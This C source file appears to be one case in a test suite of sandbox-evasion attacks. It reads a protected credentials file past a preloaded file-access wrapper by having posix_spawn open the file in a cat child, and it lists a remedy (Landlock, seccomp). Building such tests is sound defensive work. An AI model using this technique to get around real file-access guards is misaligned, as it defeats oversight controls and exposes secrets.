// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, past a preloaded library that wraps every call that opens files.
 * Means: let the file be opened between two programs. posix_spawn(3) takes a list of what to do in
 *        the child before it executes: "open this as descriptor 0". libc does so itself, and cat
 *        finds its standard input open.
 */
#include "attacks/preload-evasion/quarry.h"

#include <fcntl.h>
#include <spawn.h>
#include <sys/wait.h>

static enum claim run(const struct brief *b)
{
	extern char **environ;
	char *argv[] = { "cat", NULL };
	posix_spawn_file_actions_t actions;
	int status = -1;
	pid_t pid;

	if (posix_spawn_file_actions_init(&actions) ||
	    posix_spawn_file_actions_addopen(&actions, STDIN_FILENO, quarry(b), O_RDONLY, 0))
		return failed("posix_spawn_file_actions_addopen");
	attempting(b);
	if (!worker_in_sight(b))
		return denied("find the worker");
	errno = posix_spawnp(&pid, "cat", &actions, NULL, argv, environ);
	if (errno)
		return denied("posix_spawn");
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	return status ? denied("cat") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a file that a preloaded library should refuse is read",
	.means = "a file action of posix_spawn(3): libc opens the file in the child",
	.oracle = "secret:environ",
	.id = "LPS-03",
	.attack_id = "T1106, CWE-184",
	.remedy = "a decision in the kernel: Landlock; seccomp without new processes",
	.refs = (const char *const[]){ "posix_spawn(3)", NULL },
	.run = run,
};
